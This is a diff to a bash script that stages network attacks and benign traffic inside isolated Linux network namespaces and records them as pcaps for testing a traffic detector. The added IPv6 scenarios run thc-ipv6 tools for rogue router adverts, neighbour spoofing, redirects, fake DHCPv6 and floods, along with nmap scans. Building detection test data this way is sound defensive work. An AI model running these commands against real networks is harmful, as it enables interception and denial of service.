@@ -1,10 +1,11 @@
 #!/bin/bash
 # stage-detections.sh OUTDIR [SCENARIO...]: stage attacks and ordinary traffic
-# with the real tools (nmap, hping3, arpspoof, arp-scan, scapy, dnsmasq, curl)
-# on a throw-away LAN of network namespaces and record each scenario, as a
-# switch's mirror port shows it, to OUTDIR/SCENARIO.pcap. No scenario list:
-# all of them. Needs root. Every namespace it makes is named d8<random>-*, holds
-# only 10.88.8.0/24 with no route out, and is removed on exit, failure included.
+# with the real tools (nmap, hping3, arpspoof, arp-scan, scapy, dnsmasq, curl,
+# thc-ipv6, ndisc6) on a throw-away LAN of network namespaces and record each
+# scenario, as a switch's mirror port shows it, to OUTDIR/SCENARIO.pcap. No
+# scenario list: all of them. Needs root. Every namespace it makes is named
+# d8<random>-*, holds only 10.88.8.0/24, fd88:8::/64 and link-local addresses
+# with no route out, and is removed on exit, failure included.
 #
 # The recordings in traffic/testdata/staged/ marked "stage-detections.sh" in
 # their README line came from here; replay one with
@@ -16,6 +17,7 @@ mkdir -p "$out"
 py=/usr/bin/python3 # scapy lives in the system Python
 P=d8$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
 NET=10.88.8
+ULA=fd88:8 # the lab's IPv6 prefix, fd88:8::/64 (unique local, RFC 4193)
 SW=$P-sw
 BOX=$P-box
 tmp=$(mktemp -d)
@@ -40,6 +42,7 @@ host() {
 	ip -n "$SW" link add "p$1" type veth peer name eth0 netns "$ns" address "$2"
 	ip -n "$ns" link set lo up
 	ip -n "$ns" addr add "$NET.$3/24" dev eth0
+	ip -n "$ns" addr add "$ULA::$3/64" dev eth0 nodad # a link-local address comes by itself
 	ip -n "$ns" link set eth0 up
 	[ "$3" = 1 ] || ip -n "$ns" route add default via "$NET.1"
 	ip -n "$SW" link set "p$1" master br0 up
@@ -84,8 +87,8 @@ start_gw_dnsmasq
 cat >"$tmp/serve.py" <<'EOF'
 import socket, threading, sys
 def serve(port):
-    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    s.bind(("", port)); s.listen(64)
+    s = socket.socket(socket.AF_INET6); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("::", port)); s.listen(64) # IPv4 and IPv6
     while True:
         c, _ = s.accept()
         def talk(c):
@@ -475,6 +478,140 @@ for i in range(1, 255):
     except OSError: pass
 import time; time.sleep(3)'
 }
+
+
+# IPv6 (fd88:8::/64 beside link-local): the gateway is the IPv6 router when a
+# scenario starts its advertisements (dnsmasq, RA only, every few seconds).
+# thc-ipv6's tools are atk6-* on Debian.
+gw6=$ULA::1
+nas6=$ULA::30
+pc6=$ULA::10
+start_gw_ra() {
+	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --enable-ra \
+		--ra-param=eth0,4,1800 --dhcp-range=$ULA::,ra-only,64,1h --dhcp-leasefile="$tmp/gw6.leases"
+	sleep 1
+}
+thc() { local t=$1; shift; inns evil "atk6-$t" "$@"; }
+# v6 SCENARIO-BODY: run with the gateway advertising, then stop it.
+v6() { start_gw_ra; "$@"; pkill_gw_dnsmasq; start_gw_dnsmasq; }
+# neigh_churn: the PC and PC2 forget and ask again for the NAS's and the
+# gateway's IPv6 addresses (neighbour solicitations), N rounds a second apart.
+neigh_churn() {
+	local i h w=()
+	for i in $(seq 1 "$1"); do
+		for h in pc pc2; do
+			inns "$h" ip -6 neigh flush dev eth0
+			inns "$h" ping -6 -q -c 1 -W 1 "$nas6" >/dev/null 2>&1 & w+=($!)
+			inns "$h" ping -6 -q -c 1 -W 1 "$gw6" >/dev/null 2>&1 & w+=($!)
+		done
+		sleep 1
+	done
+	wait "${w[@]}"
+}
+scn_v6_fake_router6() { v6 inns evil timeout 12 atk6-fake_router6 eth0 $ULA:66::/64; }
+scn_v6_fake_router6_alone() { inns evil timeout 12 atk6-fake_router6 eth0 $ULA:66::/64; }
+scn_v6_fake_router26() { v6 inns evil timeout 12 atk6-fake_router26 -A $ULA:66::/64 eth0; }
+scn_v6_kill_router6() { v6 inns evil timeout 8 atk6-kill_router6 eth0 fe80::21a:a1ff:fe00:1; }
+scn_v6_flood_router6() { v6 inns evil timeout 1 atk6-flood_router6 eth0; }
+scn_v6_flood_router26() { v6 inns evil timeout 1 atk6-flood_router26 eth0; }
+scn_v6_parasite6() { spawn evil timeout 10 atk6-parasite6 eth0; sleep 1; neigh_churn 6; }
+scn_v6_fake_advertise6() {
+	spawn nas ping -6 -q -c 30 -i 0.3 -I "$nas6" "$gw6"
+	spawn pc ping -6 -q -c 30 -i 0.3 "$nas6"
+	sleep 1
+	thc fake_advertise6 -n 6 -w 1 eth0 "$nas6" "$pc6" b8:27:eb:00:00:66
+}
+scn_v6_redir6() {
+	spawn pc ping -6 -q -c 20 -i 0.3 "$nas6"
+	sleep 1
+	thc redir6 eth0 "$pc6" "$nas6" "$gw6" "$ULA::66"
+	sleep 2
+}
+dhcp6_solicit='
+from scapy.all import *
+conf.verb = 0
+mac = get_if_hwaddr("eth0")
+for i in range(2):
+    sendp(Ether(src=mac, dst="33:33:00:01:00:02")/IPv6(src="fe80::3e52:82ff:fe00:10", dst="ff02::1:2")/UDP(sport=546, dport=547)/
+          DHCP6_Solicit(trid=0x1000+i)/DHCP6OptClientId(duid=DUID_LL(lladdr=mac))/DHCP6OptIA_NA(iaid=1)/DHCP6OptElapsedTime(), iface="eth0")
+    time.sleep(2)'
+scn_v6_fake_dhcps6() {
+	spawn evil timeout 8 atk6-fake_dhcps6 eth0 $ULA:66::/64 $ULA::66
+	sleep 1
+	inns pc timeout 5 "$py" -c "$dhcp6_solicit"
+}
+scn_v6_benign_dhcp6() {
+	# The gateway's dnsmasq serves DHCPv6 (stateful, fd88:8::1000-1fff) and answers the PC's Solicit.
+	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --enable-ra \
+		--dhcp-range=$ULA::1000,$ULA::1fff,64,1h --dhcp-option=option6:dns-server,[$gw6] --dhcp-leasefile="$tmp/gw6d.leases"
+	sleep 1
+	inns pc timeout 5 "$py" -c "$dhcp6_solicit"
+	pkill_gw_dnsmasq
+	start_gw_dnsmasq
+}
+scn_v6_dos_new_ip6() {
+	spawn evil timeout 8 atk6-dos-new-ip6 eth0
+	sleep 1
+	for i in 1 2 3; do inns pc2 ip addr add "$ULA::a$i/64" dev eth0; sleep 2; done
+}
+scn_v6_flood_advertise6() { inns evil timeout 1 atk6-flood_advertise6 eth0; }
+scn_v6_flood_solicitate6() { inns evil timeout 1 atk6-flood_solicitate6 eth0 "$nas6"; }
+scn_v6_alive6() { v6 thc alive6 eth0; }
+scn_v6_alive6_ula() { thc alive6 eth0 "$ULA::0-ff"; }
+scn_v6_denial6() { inns evil timeout 3 atk6-denial6 eth0 "$nas6" 1; }
+scn_v6_thcsyn6() { inns evil timeout 2 atk6-thcsyn6 eth0 "$nas6" 80; }
+scn_v6_thcsyn6_randsrc() { inns evil timeout 2 atk6-thcsyn6 -r eth0 "$nas6" 80; }
+scn_v6_nmap_sS() { inns evil nmap -6 -sS -Pn -n -T4 --top-ports 100 "$nas6"; }
+scn_v6_nmap_sT() { inns evil nmap -6 -sT -Pn -n -T4 -p 1-100 "$nas6"; }
+scn_v6_nmap_sU() { inns evil nmap -6 -sU -Pn -n -T5 --max-retries 0 -p 1-60 "$nas6"; }
+quiet6=$(for i in $(seq 256 303); do printf '%s::%x ' $ULA "$i"; done) # .100-.129's addresses (nmap takes no IPv6 ranges)
+scn_v6_nmap_sn() { inns evil nmap -6 -sn -n $quiet6; }
+scn_v6_nmap_sn_echo() { inns evil nmap -6 -sn -n --send-ip -PE $quiet6; }
+scn_v6_nmap_O() { inns evil nmap -6 -O -Pn -n -p 22,80 "$nas6"; }
+scn_v6_ping_flood() { inns evil timeout 3 ping -6 -q -f "$nas6"; }
+
+# Ordinary IPv6 life: must stay at info or below.
+scn_v6_benign_life() {
+	start_gw_ra
+	# SLAAC and DAD of a new host (pc2 takes its address from the gateway's prefix).
+	inns pc2 sysctl -qw net.ipv6.conf.eth0.use_tempaddr=2
+	inns pc2 ip link set eth0 down; inns pc2 ip link set eth0 up
+	inns pc2 ip addr add "$ULA::11/64" dev eth0 nodad 2>/dev/null || true
+	sleep 3
+	inns pc rdisc6 -1 eth0 || true
+	inns pc ndisc6 "$nas6" eth0 || true
+	neigh_churn 3
+	spawn pc ping -6 -q -c 10 -i 0.5 "$nas6"
+	for i in $(seq 1 10); do inns pc curl -s -o /dev/null "http://[$nas6]/" || true; done
+	# A temporary address (privacy extensions) replaced by a new one, as RFC 8981 hosts do.
+	inns pc ip addr add "$ULA::1234:5678:9abc:1/64" dev eth0
+	sleep 2
+	inns pc curl -s -o /dev/null --interface "$ULA::1234:5678:9abc:1" "http://[$nas6]/" || true
+	inns pc ip addr del "$ULA::1234:5678:9abc:1/64" dev eth0
+	inns pc ip addr add "$ULA::4321:8765:cba9:2/64" dev eth0
+	sleep 2
+	inns pc curl -s -o /dev/null --interface "$ULA::4321:8765:cba9:2" "http://[$nas6]/" || true
+	# mDNS over IPv6: the NAS announces its own name and service.
+	scapy nas 'for i in range(3):
+    sendp(Ether(src=mac, dst="33:33:00:00:00:fb")/IPv6(src="fe80::211:32ff:fe00:30", dst="ff02::fb", hlim=255)/UDP(sport=5353, dport=5353)/
+          DNS(id=0, qr=1, aa=1, an=DNSRR(rrname="nas.local", type="AAAA", rdata="'$nas6'", ttl=120)/
+              DNSRR(rrname="_smb._tcp.local", type="PTR", rdata="nas._smb._tcp.local", ttl=4500)), iface="eth0")
+    time.sleep(1)'
+	sleep 3 # periodic advertisements
+	pkill_gw_dnsmasq
+	start_gw_dnsmasq
+}
+scn_v6_benign_two_routers() {
+	# Two routers on purpose: the gateway and pc2 (a second uplink) both advertise.
+	start_gw_ra
+	spawn pc2 dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --enable-ra \
+		--ra-param=eth0,4,1800 --dhcp-range=$ULA::,ra-only,64,1h --dhcp-leasefile="$tmp/pc26.leases"
+	sleep 10
+	for p in $(ip netns pids "$P-pc2"); do [ "$(cat /proc/$p/comm 2>/dev/null)" = dnsmasq ] && kill "$p"; done
+	pkill_gw_dnsmasq
+	start_gw_dnsmasq
+}
+
 
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
